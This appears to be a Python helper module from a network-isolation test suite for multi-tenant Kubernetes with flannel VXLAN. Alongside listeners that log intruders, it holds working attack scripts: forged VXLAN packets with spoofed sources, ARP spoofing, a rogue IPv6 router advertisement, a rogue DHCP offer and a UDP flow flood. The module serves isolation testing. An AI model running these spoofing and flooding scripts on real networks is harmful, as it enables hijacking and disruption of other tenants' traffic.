"""What a hostile tenant runs inside its pod (it is root there: raw
sockets, any source address), and sentinels that stand in for the
infrastructure and record whoever reaches them."""

from __future__ import annotations

import subprocess
import sys
import time
from dataclasses import dataclass, field

# Listens on TCP and UDP on each port of argv[1] (comma-separated) on every
# address of its namespace; answers TCP with argv[2]; prints one line per
# contact: "tcp <port> <peer>" or "udp <port> <peer> <payload>".
SENTINEL = r"""
import select, socket, sys
tag, sockets = sys.argv[2], {}
for port in map(int, sys.argv[1].split(",")):
    tcp = socket.socket(); tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("0.0.0.0", port)); tcp.listen(64)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); udp.bind(("0.0.0.0", port))
    sockets[tcp], sockets[udp] = port, port
print("ready", flush=True)
while True:
    for s in select.select(list(sockets), [], [])[0]:
        if s.type == socket.SOCK_STREAM:
            c, peer = s.accept()
            c.sendall((tag + "\n").encode()); print("tcp", sockets[s], peer[0], flush=True); c.close()
        else:
            data, peer = s.recvfrom(4096)
            print("udp", sockets[s], peer[0], data[:60].decode(errors="replace").replace(" ", "_"), flush=True)
"""

# TCP connects to every target at once and sends three UDP datagrams to
# each; prints "<ip> open <tag>" / "timeout" / "error <errno>".
PROBE = r"""
import socket, sys, threading
port, targets = int(sys.argv[1]), sys.argv[2:]
results = {}
def connect(ip):
    try:
        c = socket.create_connection((ip, port), timeout=1.5)
        results[ip] = "open " + c.recv(64).decode().strip(); c.close()
    except socket.timeout:
        results[ip] = "timeout"
    except OSError as e:
        results[ip] = f"error {e.errno}"
threads = [threading.Thread(target=connect, args=(ip,)) for ip in targets]
for t in threads: t.start()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for ip in targets:
    for _ in range(3):
        try: u.sendto(f"probe {ip}".encode(), (ip, port))
        except OSError: pass
for t in threads: t.join()
for ip in targets: print(ip, results[ip])
"""

_PACKETS = r"""
import socket, struct

def checksum(data):
    if len(data) % 2: data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

def pod_mac(ip):
    return bytes([2, 0x70]) + socket.inet_aton(ip)

def mac_bytes(text):
    return bytes.fromhex(text.replace(":", ""))

def ipv4_udp(src, dst, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp

def ethernet(dst_mac, src_mac, ethertype, payload):
    return dst_mac + src_mac + struct.pack("!H", ethertype) + payload
"""

# A VXLAN packet sent with an ordinary UDP socket, as flannel's peers would
# send it: inner frame to each victim pod's MAC (which follows from its IP),
# from a forged source address, for every target host, port and VNI.
FORGE_VXLAN = (
    _PACKETS
    + r"""
import sys, time
hosts, ports, vnis, victims = (sys.argv[i].split(",") for i in range(1, 5))
dport, forged = int(sys.argv[5]), sys.argv[6]
keep_sending = float(sys.argv[7]) if len(sys.argv) > 7 else 0  # seconds, a burst every 20 ms
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent, end = 0, time.time() + keep_sending
while True:
    for host in hosts:
        for port in ports:
            for vni in vnis:
                for victim in victims:
                    inner = ethernet(pod_mac(victim), mac_bytes("02:70:de:ad:be:ef"), 0x0800,
                                     ipv4_udp(forged, victim, 4444, dport, f"forged-vxlan vni={vni}".encode()))
                    packet = struct.pack("!II", 0x08000000, int(vni) << 8) + inner
                    for _ in range(3):
                        try:
                            s.sendto(packet, (host, int(port))); sent += 1
                        except OSError:
                            pass
    if time.time() >= end:
        break
    time.sleep(0.02)
print("sent", sent)
"""
)

# Frames written straight onto the pod's eth0.
RAW = (
    _PACKETS
    + r"""
import sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0))
own = s.getsockname()[4]
kind, args = sys.argv[1], sys.argv[2:]
BROADCAST = b"\xff" * 6

def arp(op, sha, spa, tha, tpa):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sha + socket.inet_aton(spa) + tha + socket.inet_aton(tpa)

frames = []
if kind == "udp":  # src-mac|own, src-ip, dst-ip, dst-port, tag
    src_mac = own if args[0] == "own" else mac_bytes(args[0])
    frames.append(ethernet(pod_mac(args[2]), src_mac, 0x0800,
                           ipv4_udp(args[1], args[2], 5555, int(args[3]), args[4].encode())))
elif kind == "arp":  # claimed-ip, target-ip: gratuitous request and reply, and a reply to target
    for op in (1, 2):
        frames.append(ethernet(BROADCAST, own, 0x0806, arp(op, own, args[0], BROADCAST, args[0])))
    frames.append(ethernet(pod_mac(args[1]), own, 0x0806, arp(2, own, args[0], pod_mac(args[1]), args[1])))
elif kind == "ra":  # an IPv6 router advertisement of 2001:db8:bad::/64
    src = bytes.fromhex("fe80000000000000") + own[:3] + b"\xff\xfe" + own[3:]
    dst = bytes.fromhex("ff020000000000000000000000000001")
    prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, bytes.fromhex("20010db80bad" + "00" * 10))
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + struct.pack("!BB", 1, 1) + own
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    head = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + src + dst
    frames.append(ethernet(b"\x33\x33\x00\x00\x00\x01", own, 0x86DD, head + body))
elif kind == "dhcp":  # own-ip: a DHCP offer, broadcast
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s", 2, 1, 6, 0, 0x1234, 0, 0, b"\0" * 4,
                        socket.inet_aton("10.244.9.9"), socket.inet_aton(args[0]), b"\0" * 4, b"\0" * 16)
    bootp += b"\0" * 192 + b"\x63\x82\x53\x63\x35\x01\x02\xff"
    frames.append(ethernet(BROADCAST, own, 0x0800, ipv4_udp(args[0], "255.255.255.255", 67, 68, bootp)))
for frame in frames:
    for _ in range(3):
        s.send(frame)
print("sent", len(frames) * 3)
"""
)

# Opens argv[2] new UDP flows (one destination port each) towards argv[1].
FLOOD = r"""
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(int(sys.argv[2])):
    s.sendto(b"x", (sys.argv[1], 20000 + i))
print("sent", sys.argv[2])
"""


def run_in(netns: str, script: str, *args: str, timeout: float = 60) -> str:
    out = subprocess.run(
        ["ip", "netns", "exec", netns, sys.executable, "-c", script, *args],
        capture_output=True, text=True, check=False, timeout=timeout,
    )  # fmt: skip
    assert out.returncode == 0, f"{script.strip().splitlines()[0]} in {netns} failed: {out.stderr}"
    return out.stdout


def probe(netns: str, port: int, targets: list[str]) -> dict[str, str]:
    """target -> what a TCP connection from netns found there."""
    out = run_in(netns, PROBE, str(port), *targets)
    return dict(line.split(" ", 1) for line in out.splitlines())


def reached(result: str) -> bool:
    """Something answered: a listener, or a host refusing the port."""
    return result.startswith("open") or result == "error 111"


@dataclass
class Sentinel:
    """A SENTINEL in a namespace; contacts() stops it and says who came."""

    netns: str
    ports: tuple[int, ...]
    tag: str
    proc: subprocess.Popen[str] | None = None
    lines: list[str] = field(default_factory=list)

    def start(self) -> Sentinel:
        ports = ",".join(map(str, self.ports))
        self.proc = subprocess.Popen(
            ["ip", "netns", "exec", self.netns, sys.executable, "-u", "-c", SENTINEL, ports, self.tag],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
        )  # fmt: skip
        assert self.proc.stdout is not None
        deadline = time.monotonic() + 10
        while self.proc.stdout.readline().strip() != "ready":
            assert time.monotonic() < deadline and self.proc.poll() is None, f"sentinel in {self.netns} did not start"
        return self

    def contacts(self) -> list[str]:
        if self.proc is not None:
            self.proc.kill()
            rest, _ = self.proc.communicate(timeout=10)
            self.lines += [line for line in rest.splitlines() if line.strip()]
            self.proc = None
        return self.lines
